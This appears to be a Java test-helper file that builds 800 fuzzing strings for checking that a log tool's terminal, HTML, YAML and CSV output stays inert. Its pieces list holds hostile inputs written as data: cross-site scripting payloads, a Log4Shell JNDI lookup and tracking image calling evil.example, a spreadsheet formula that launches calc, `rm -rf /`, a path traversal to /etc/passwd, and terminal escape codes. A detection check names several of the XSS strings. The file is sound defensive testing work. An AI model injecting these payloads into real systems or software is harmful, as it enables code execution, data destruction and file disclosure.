package io.logclf.app;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Random;
import java.util.Set;

/** Eight hundred texts that try to be more than text wherever they are shown, and what no surface may show. */
final class HostileTexts {

    private static final int COUNT = 800;
    private static final long SEED = 20;
    private static final String[] PIECES = {
        "user",
        "Größe",
        "日本語",
        "👩\u200d💻",
        "\n",
        "\r\n",
        "\r",
        "\t",
        "\u0085",
        "\u2028",
        "\u2029",
        "\u000b",
        "\f",
        "\u0000",
        "\u0007",
        "\b\b\b",
        "\u001b[31m",
        "\u001b[2J\u001b[H",
        "\u001b]0;title\u0007",
        "\u001b]8;;http://evil.example\u001b\\",
        "\u009b31m",
        "\u007f",
        "\u202e",
        "\u202a",
        "\u2066",
        "\u2069",
        "\u200e",
        "\u200f",
        "\u061c",
        "\u200b",
        "\u2060",
        "\ufeff",
        "\u00ad",
        "\udb40\udc41",
        "\ufff9",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "\"><svg onload=alert(1)>",
        "' onmouseover='alert(1)",
        "</title><b>",
        "<!--",
        "]]>",
        "&lt;",
        "&#x202e;",
        "javascript:alert(1)",
        "=cmd|' /C calc'!A1",
        "| a | b |",
        "`rm -rf /`",
        "[x](javascript:alert(1))",
        "![x](http://evil.example/x.png)",
        "%s%n%d",
        "${jndi:ldap://evil.example/a}",
        "{0}",
        "\\n",
        "\\u001b[31m",
        "C:\\Windows",
        "../../etc/passwd",
        "\"",
        "'",
        ",",
        ";",
        "#",
        "- ",
        "---",
        "logclf: done"
    };

    private HostileTexts() {}

    /** All, in an order that stays; none is blank. */
    static List<String> all() {
        Random random = new Random(SEED);
        Set<String> texts = new LinkedHashSet<>();
        for (String piece : PIECES) {
            texts.add("x" + piece + "y");
        }
        while (texts.size() < COUNT) {
            StringBuilder text = new StringBuilder();
            for (int i = 1 + random.nextInt(6); i >= 0; i--) {
                text.append(PIECES[random.nextInt(PIECES.length)]);
            }
            if (!text.toString().isBlank()) {
                texts.add(random.nextInt(80) == 0 ? text + "x".repeat(5_000) : text.toString());
            }
        }
        return new ArrayList<>(texts);
    }

    /** Whether a terminal shows a line as the letters in it, in their order. */
    static boolean isPlain(String line) {
        return line.codePoints().noneMatch(c -> switch (Character.getType(c)) {
            case Character.CONTROL,
                    Character.FORMAT,
                    Character.SURROGATE,
                    Character.LINE_SEPARATOR,
                    Character.PARAGRAPH_SEPARATOR -> true;
            default -> false;
        });
    }

    /** Whether a page shows a text as the letters in it, in their order, and runs and loads nothing of it. */
    static boolean isPlainPage(String html) {
        boolean unseen = html.codePoints()
                .anyMatch(c -> c != '\n'
                        && c != '\t'
                        && c != 0x00AD
                        && c != 0x200C
                        && c != 0x200D
                        && (Character.isISOControl(c) || Character.getType(c) == Character.FORMAT));
        String lower = html.toLowerCase(Locale.ROOT);
        return !unseen
                && !lower.contains("<script>alert")
                && !lower.contains("<img")
                && !lower.contains("<svg onload")
                && !lower.contains("' onmouseover")
                && !lower.contains("</title><b>");
    }

    /** A text as YAML has it between double quotes. */
    static String yaml(String text) {
        StringBuilder yaml = new StringBuilder("\"");
        text.codePoints()
                .forEach(c -> yaml.append(
                        c >= ' ' && c < 0x7F && c != '"' && c != '\\'
                                ? Character.toString(c)
                                : String.format("\\U%08x", c)));
        return yaml.append('"').toString();
    }

    /** A text as a cell of a CSV file. */
    static String csv(String text) {
        return '"' + text.replace("\"", "\"\"") + '"';
    }
}
